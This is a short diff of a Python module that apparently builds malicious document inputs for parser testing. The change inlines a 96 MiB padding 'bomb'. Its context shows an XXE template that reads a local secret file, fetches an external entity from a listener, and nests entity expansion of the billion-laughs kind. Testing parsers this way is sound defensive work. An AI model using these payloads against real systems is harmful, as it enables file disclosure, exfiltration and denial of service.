@@ -23,7 +23,6 @@ if TYPE_CHECKING:
 
 Parts = dict[str, bytes]
 
-_BOMB = b" " * (96 << 20)
 _ENTITIES = (
     '<!DOCTYPE x [<!ENTITY a SYSTEM "file://{0}"><!ENTITY % b SYSTEM "{1}"> %b;'
     '<!ENTITY c "{2}"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
@@ -134,7 +133,7 @@ def bomb(parts: Parts, chance: random.Random, secret: Path, listener: str) -> Pa
     """Make a part swell to 96 MiB."""
     name = _markup(parts, chance)
     at = parts[name].rfind(b"<")
-    return {**parts, name: parts[name][:at] + _BOMB + parts[name][at:]}
+    return {**parts, name: parts[name][:at] + b" " * (96 << 20) + parts[name][at:]}
 
 
 def nested(parts: Parts, chance: random.Random, secret: Path, listener: str) -> Parts:
